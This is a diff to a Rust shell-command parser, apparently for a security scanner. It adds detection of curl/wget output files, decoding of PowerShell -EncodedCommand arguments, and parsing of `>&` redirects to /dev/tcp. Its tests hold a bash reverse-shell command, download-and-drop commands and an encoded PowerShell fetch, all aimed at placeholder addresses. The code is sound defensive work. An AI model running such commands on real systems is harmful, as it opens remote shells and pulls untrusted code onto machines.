@@ -131,17 +131,25 @@ fn parse_into(line: &str, nesting: usize, out: &mut Vec<ShellCmd>) {
 }
 
 /// Adds `cmd`, then what it wraps: `nohup x &` also yields `x &`, `sh -c 'y'` yields `y`.
-fn expand(cmd: ShellCmd, nesting: usize, out: &mut Vec<ShellCmd>) {
+fn expand(mut cmd: ShellCmd, nesting: usize, out: &mut Vec<ShellCmd>) {
     let name = cmd.name().to_string();
-    let inner_line = if SHELLS.contains(&name.as_str())
-        || name == "powershell"
-        || name == "pwsh"
-        || name == "cmd"
-    {
-        cmd.args
+    if let Some(file) = download_output(&name, &cmd.args) {
+        cmd.redirects.push((">".to_string(), file));
+    }
+    let powershell = name.eq_ignore_ascii_case("powershell") || name.eq_ignore_ascii_case("pwsh");
+    let inner_line = if SHELLS.contains(&name.as_str()) || powershell || name == "cmd" {
+        let flag = cmd.args.iter().position(|a| {
+            matches!(a.as_str(), "-c" | "/c" | "/C") || a.eq_ignore_ascii_case("-command")
+        });
+        let encoded = cmd
+            .args
             .iter()
-            .position(|a| matches!(a.as_str(), "-c" | "/c" | "/C" | "-Command" | "-command"))
-            .and_then(|i| cmd.args.get(i + 1).cloned())
+            .position(|a| powershell && is_encoded_command_flag(a));
+        match (flag, encoded) {
+            (Some(i), _) => cmd.args.get(i + 1).cloned(),
+            (None, Some(i)) => cmd.args.get(i + 1).and_then(|b| decode_utf16le_base64(b)),
+            (None, None) => None,
+        }
     } else {
         None
     };
@@ -180,6 +188,49 @@ fn expand(cmd: ShellCmd, nesting: usize, out: &mut Vec<ShellCmd>) {
             out,
         );
     }
+}
+
+/// The file a downloader writes to: `curl -o F` (also grouped, `-fsSLo F`),
+/// `curl --output F`, `wget -O F`, `wget --output-document=F`.
+fn download_output(program: &str, args: &[String]) -> Option<String> {
+    let (short, long) = match program {
+        "curl" => ('o', "--output"),
+        "wget" => ('O', "--output-document"),
+        _ => return None,
+    };
+    for (i, a) in args.iter().enumerate() {
+        if let Some(v) = a.strip_prefix(long).and_then(|r| r.strip_prefix('=')) {
+            return Some(v.to_string());
+        }
+        let grouped_short = a.len() >= 2
+            && !a.starts_with("--")
+            && a.starts_with('-')
+            && a.ends_with(short)
+            && a[1..].chars().all(|c| c.is_ascii_alphabetic());
+        if a == long || grouped_short {
+            return args.get(i + 1).cloned();
+        }
+    }
+    None
+}
+
+/// PowerShell's `-EncodedCommand` and the prefixes it accepts (`-e`, `-enc`, `-ec`).
+pub fn is_encoded_command_flag(arg: &str) -> bool {
+    let Some(flag) = arg.strip_prefix(['-', '/']) else {
+        return false;
+    };
+    let flag = flag.to_ascii_lowercase();
+    flag == "ec" || (!flag.is_empty() && "encodedcommand".starts_with(&flag))
+}
+
+/// A PowerShell encoded command: base64 of UTF-16LE text.
+fn decode_utf16le_base64(b64: &str) -> Option<String> {
+    let bytes: Vec<u8> = crate::lang::facts::decode_base64_bytes(b64)?;
+    let units: Vec<u16> = bytes
+        .chunks_exact(2)
+        .map(|p| u16::from_le_bytes([p[0], p[1]]))
+        .collect();
+    Some(String::from_utf16_lossy(&units))
 }
 
 fn is_assignment(word: &str) -> bool {
@@ -240,7 +291,17 @@ fn lex(line: &str, nested: &mut Vec<String>) -> Vec<Tok> {
                     in_word = false;
                 }
                 end_word(&mut word, &mut in_word, &mut toks);
-                if fd_dup {
+                // `>& file` (no digit after `&`) sends both streams to a file: `/dev/tcp/...`.
+                let to_file = fd_dup
+                    && c == '>'
+                    && chars[i + 2..]
+                        .iter()
+                        .find(|x| **x != ' ')
+                        .is_some_and(|x| !x.is_ascii_digit() && *x != '-');
+                if to_file {
+                    i += 1;
+                    toks.push(Tok::Op(">"));
+                } else if fd_dup {
                     i += 2;
                     while i < chars.len() && (chars[i].is_ascii_digit() || chars[i] == '-') {
                         i += 1;
@@ -383,6 +444,35 @@ mod tests {
         );
         assert!(names("echo $(whoami)").contains(&"whoami".to_string()));
         assert!(names("echo `hostname`").contains(&"hostname".to_string()));
+    }
+
+    #[test]
+    fn reverse_shell_redirect_and_download_output() {
+        let cmds = parse("bash -i >& /dev/tcp/192.0.2.9/4444 0>&1");
+        assert_eq!(cmds[0].args, vec!["-i".to_string()]);
+        assert_eq!(
+            cmds[0].redirects,
+            vec![(">".to_string(), "/dev/tcp/192.0.2.9/4444".to_string())]
+        );
+        let cmds = parse("curl -fsSLo ~/.x http://192.0.2.1/x && wget -q --output-document=/tmp/y http://192.0.2.1/y");
+        assert_eq!(
+            cmds[0].redirects,
+            vec![(">".to_string(), "~/.x".to_string())]
+        );
+        assert_eq!(
+            cmds[1].redirects,
+            vec![(">".to_string(), "/tmp/y".to_string())]
+        );
+    }
+
+    #[test]
+    fn powershell_encoded_command_is_parsed() {
+        // "iwr http://192.0.2.5/a" in UTF-16LE, base64.
+        let line =
+            "powershell -NoP -enc aQB3AHIAIABoAHQAdABwADoALwAvADEAOQAyAC4AMAAuADIALgA1AC8AYQA=";
+        assert_eq!(names(line), ["powershell", "iwr"]);
+        assert!(is_encoded_command_flag("-EncodedCommand") && is_encoded_command_flag("-e"));
+        assert!(!is_encoded_command_flag("-ExecutionPolicy"));
     }
 
     #[test]
